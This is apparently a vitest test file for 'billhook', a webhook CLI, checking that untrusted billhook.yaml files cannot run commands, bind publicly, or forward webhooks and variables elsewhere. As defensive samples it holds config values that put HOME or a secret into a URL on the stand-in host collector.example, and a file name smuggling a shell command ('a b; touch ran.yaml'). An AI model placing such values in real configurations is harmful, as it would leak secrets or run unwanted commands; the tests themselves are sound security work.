import { createHash } from 'node:crypto'
import { existsSync, mkdirSync, readFileSync, realpathSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { beforeEach, expect, test } from 'vitest'
import { billhook } from '../helpers/billhook.ts'
import { startHandler } from '../helpers/handlers.ts'
import { paid } from '../helpers/replay.ts'
import { startTarget } from '../helpers/target.ts'
import { tempDir } from '../helpers/temp-dir.ts'

let cwd: string
let env: { readonly HOME: string }
beforeEach(() => {
  cwd = tempDir()
  env = { HOME: tempDir() }
  put('paid.json', JSON.stringify(paid))
})

function put(name: string, content: string): void {
  writeFileSync(join(cwd, name), content)
}

function run(...args: readonly string[]) {
  return billhook(args, { cwd, env })
}

const refused = { code: 2, stderr: expect.stringContaining('BILLHOOK_CONFIG_UNTRUSTED') as string }
const check = ['replay', 'paid.json', '--check', 'duplicate', '--settle', '60ms']

test('a pull request that adds a command to billhook.yaml cannot run it in CI', async () => {
  const handler = await startHandler({})
  for (const [key, spec] of [
    ['observe', '["cmd:touch ran; echo 1"]'],
    ['reset', 'cmd:touch ran'],
    ['restart', 'cmd:touch ran'],
  ] as const) {
    put('billhook.yaml', `replay:\n  to: ${handler.url}\n  ${key}: ${spec}\n`)
    const checks = ['replay', 'paid.json', '--check', 'crash,duplicate', '--settle', '60ms']
    const observe = key === 'observe' ? [] : ['--observe', handler.state]
    const ended = await billhook([...checks, ...observe], { cwd, env: { ...env, CI: 'true' } })
    expect(ended, key).toMatchObject({
      ...refused,
      stdout: '',
      stderr: expect.stringMatching(
        /^error: billhook\.yaml:3:\d+: replay\..* runs a command, and the file is not trusted: cmd:touch ran/,
      ) as string,
    })
    expect(existsSync(join(cwd, 'ran')), key).toBe(false)
  }
})

test('an untrusted file cannot send webhooks or variables to another host', async () => {
  for (const yaml of [
    'listen: { forward_to: ["http://collector.example/?h=${HOME}"] }',
    'sources: { stripe: { forward_to: ["http://127.0.0.1:9/${HOME}"] } }',
    'listen: { host: 0.0.0.0 }',
    'data_dir: ../elsewhere',
    'schemas: /etc',
  ]) {
    put('billhook.yaml', yaml)
    const ended = await run('listen', '--port', '0', '--timeout', '300ms')
    expect(ended, yaml).toMatchObject(refused)
    expect(ended.stderr).not.toContain(env.HOME)
  }
  put('billhook.yaml', 'replay: { to: "http://collector.example/" }')
  expect(await run('send', 'invoice.paid', '--source', 'stripe')).toMatchObject(refused)
  expect(await run('replay', 'paid.json')).toMatchObject(refused)
})

test('the suggested trust command quotes the file name for a shell', async () => {
  const name = 'a b; touch ran.yaml'
  put(name, 'data_dir: /etc\n')
  for (const args of [['listen', '--port', '0'], ['doctor']]) {
    expect((await run(...args, '--config', name)).stdout + (await run(...args, '--config', name)).stderr).toContain(
      `billhook trust '${name}'`,
    )
  }
  expect((await run('trust', name)).stdout).toContain(`  undo: billhook trust --revoke '${name}'\n`)
})

test('a trusted file can run commands until it changes or is revoked; a copy of it cannot', async () => {
  const handler = await startHandler({})
  const yaml = `replay:\n  to: ${handler.url}\n  observe: ["cmd:touch ran; echo 1"]\n`
  put('billhook.yaml', yaml)
  const trusted = await run('trust')
  expect(trusted).toMatchObject({
    code: 0,
    stderr: '',
    stdout: expect.stringContaining(
      'billhook.yaml:3:13: replay.observe[0] runs a command: cmd:touch ran; echo 1\n',
    ) as string,
  })
  const file = join(env.HOME, '.config', 'billhook', 'trust.json')
  expect([statSync(file).mode & 0o777, statSync(join(file, '..')).mode & 0o777]).toEqual([0o600, 0o700])
  expect((await run(...check)).code).toBe(4)
  expect(existsSync(join(cwd, 'ran'))).toBe(true)
  expect((await run('trust', '--list')).stdout).toMatch(/^trusted {2}\S+ {2}\S+billhook\.yaml\n$/)

  put('billhook.yaml', `${yaml}# one more comment\n`)
  expect(await run(...check)).toMatchObject({
    ...refused,
    stderr: expect.stringContaining('the file has changed since it was trusted') as string,
  })
  expect((await run('trust', '--list')).stdout).toMatch(/^changed {2}/)
  put('billhook.yaml', yaml)
  expect((await run(...check)).code).toBe(4)

  mkdirSync(join(cwd, 'copy'))
  put('copy/billhook.yaml', yaml)
  put('copy/paid.json', JSON.stringify(paid))
  expect(await billhook(check, { cwd: join(cwd, 'copy'), env })).toMatchObject(refused)

  expect((await run('trust', '--revoke')).stdout).toContain('is no longer trusted')
  expect(await run(...check)).toMatchObject(refused)
  expect(await run('trust', '--list')).toMatchObject({ code: 0, stdout: '', stderr: 'no file is trusted\n' })
})

test('--trust-config applies to one run, and no variable replaces it', async () => {
  const target = await startTarget()
  put('billhook.yaml', `replay: { to: "${target.url}/\${CI}" }`)
  const ci = { ...env, CI: 'true', BILLHOOK_TRUST_CONFIG: '1', BILLHOOK_TRUST: '1' }
  expect(await billhook(['replay', 'paid.json'], { cwd, env: ci })).toMatchObject(refused)
  expect(await billhook(['replay', 'paid.json', '--trust-config'], { cwd, env: ci })).toMatchObject({ code: 0 })
  expect(target.hits).toHaveLength(1)
  expect(await billhook(['replay', 'paid.json'], { cwd, env: ci })).toMatchObject(refused)
  expect(existsSync(join(env.HOME, '.config'))).toBe(false)
})

test('commands that do not use an untrusted value work, and command-line options replace it', async () => {
  const target = await startTarget()
  put(
    'billhook.yaml',
    'listen: { host: 0.0.0.0, forward_to: ["http://collector.example/"] }\nreplay: { to: ' +
      '"http://collector.example/", observe: ["cmd:touch ran"], reset: "cmd:touch ran", restart: "cmd:touch ran" }\n',
  )
  expect(await run('events', 'list')).toMatchObject({ code: 0 })
  expect((await run('validate', 'paid.json')).stderr).not.toContain('UNTRUSTED')
  expect(await run('inspect', 'paid.json', '--source', 'stripe')).toMatchObject({ code: 0 })
  expect(await run('replay', 'paid.json', '--to', target.url)).toMatchObject({ code: 0 })
  expect(await run('send', 'invoice.paid', '--source', 'stripe', '--to', target.url)).toMatchObject({ code: 0 })
  expect(
    await run('listen', '--port', '0', '--host', '127.0.0.1', '--forward-to', target.url, '--timeout', '100ms'),
  ).toMatchObject({ code: 0 })
  expect(existsSync(join(cwd, 'ran'))).toBe(false)
})

test('doctor reports untrusted values with the next step, and does not contact untrusted hosts', async () => {
  const target = await startTarget()
  put(
    'billhook.yaml',
    `listen: { port: 0, forward_to: ["${target.url}"] }\nsources: { stripe: { secrets: [whsec_a], ` +
      `forward_to: ["http://127.0.0.1:9/\${HOME}"] } }\nreplay: { observe: ["cmd:touch ran"] }\n`,
  )
  const { code, stdout } = await run('doctor', '--format', 'json')
  const { checks } = JSON.parse(stdout) as {
    checks: { name: string; status: string; message: string; hint?: string }[]
  }
  expect(code).toBe(1)
  expect(checks.filter(({ name }) => name === 'trust')).toEqual([
    {
      name: 'trust',
      status: 'fail',
      message: expect.stringMatching(
        /^billhook\.yaml:2:\d+: sources\.stripe\.forward_to\[0\] puts HOME into a URL/,
      ) as string,
      hint: expect.stringContaining('billhook trust billhook.yaml') as string,
    },
    {
      name: 'trust',
      status: 'fail',
      message: expect.stringContaining('runs a command') as string,
      hint: expect.any(String) as string,
    },
  ])
  expect(checks.map(({ name }) => name)).toContain(`target ${new URL(target.url).origin}`)
  expect(stdout).not.toContain('127.0.0.1:9 ')
  expect((await run('doctor', '--trust-config')).stdout).toMatch(/^ok {4}trust /m)
})

test('an unreadable trust.json is not overwritten and is reported with a next step', async () => {
  put('billhook.yaml', 'data_dir: ../x')
  mkdirSync(join(env.HOME, '.config', 'billhook'), { recursive: true })
  const file = join(env.HOME, '.config', 'billhook', 'trust.json')
  for (const broken of ['{', '{"format":"billhook.trust/9","files":{}}', '[]']) {
    writeFileSync(file, broken)
    for (const args of [['trust'], ['trust', '--list'], ['trust', '--revoke']])
      expect(await run(...args)).toMatchObject({
        code: 3,
        stdout: '',
        stderr: expect.stringContaining('BILLHOOK_TRUST_UNUSABLE') as string,
      })
    expect(await run('events', 'list')).toMatchObject({
      ...refused,
      stderr: expect.stringContaining('trust.json') as string,
    })
    expect(readFileSync(file, 'utf8')).toBe(broken)
  }
})

test.each([
  [['trust'], 'there is no billhook.yaml in this directory'],
  [['trust', '--revoke'], 'there is no billhook.yaml in this directory'],
  [['trust', 'gone.yaml'], 'gone.yaml cannot be read'],
  [['trust', '--list', '--revoke'], '--list cannot be combined with FILE or --revoke'],
])('billhook %j is an error that says what is wrong', async (args, message) => {
  expect(await run(...args)).toMatchObject({ code: 2, stderr: expect.stringContaining(message) as string })
})

test('a file that needs no trust is not recorded', async () => {
  put('billhook.yaml', 'listen: { port: 0, forward_to: ["http://127.0.0.1:${PORT:-3000}/"] }')
  expect(await run('trust')).toMatchObject({ code: 0, stdout: expect.stringContaining('asks for nothing') as string })
  expect(existsSync(join(env.HOME, '.config'))).toBe(false)
})

test('a trust.json in the repository is ignored if HOME is empty, relative or the repository itself', async () => {
  put('billhook.yaml', 'replay: { to: "http://127.0.0.1:9/", observe: ["cmd:touch ran; echo 1"] }')
  mkdirSync(join(cwd, '.config', 'billhook'), { recursive: true })
  const sha256 = createHash('sha256')
    .update(readFileSync(join(cwd, 'billhook.yaml')))
    .digest('hex')
  const files = { [join(realpathSync(cwd), 'billhook.yaml')]: { sha256, at: '2026-01-01T00:00:00.000Z' } }
  put('.config/billhook/trust.json', JSON.stringify({ format: 'billhook.trust/1', files }))
  for (const HOME of ['', '.', 'x/..']) {
    env = { HOME }
    expect(await run(...check), HOME).toMatchObject(refused)
    expect(existsSync(join(cwd, 'ran'))).toBe(false)
  }
  mkdirSync(join(cwd, '.git'))
  env = { HOME: cwd }
  expect(await run(...check)).toMatchObject({
    ...refused,
    stderr: expect.stringContaining('inside its repository') as string,
  })
})

test('a file that would send a variable away can be inspected without setting the variable', async () => {
  put(
    'billhook.yaml',
    'listen: { forward_to: ["https://collector.example/?k=${UNSET_SECRET}"] }\nreplay: { to: ' +
      '"http://127.0.0.1:9/${UNSET_PATH}" }',
  )
  expect(await run('validate', 'paid.json')).toMatchObject({ code: 4 })
  const doctor = await run('doctor')
  expect(doctor.stdout).toContain('puts UNSET_SECRET into a URL')
  expect(doctor.stdout).not.toContain('set UNSET_SECRET')
  expect(await run('listen', '--port', '0', '--timeout', '100ms')).toMatchObject(refused)
  expect(await run('trust')).toMatchObject({
    code: 0,
    stdout: expect.stringContaining(
      'forward_to[0] may reach another machine and puts UNSET_SECRET into a URL: https://collector.example/?k=',
    ) as string,
  })
  expect(await run('listen', '--port', '0', '--timeout', '100ms')).toMatchObject({
    code: 2,
    stderr: expect.stringContaining('BILLHOOK_CONFIG_UNSET') as string,
  })
})
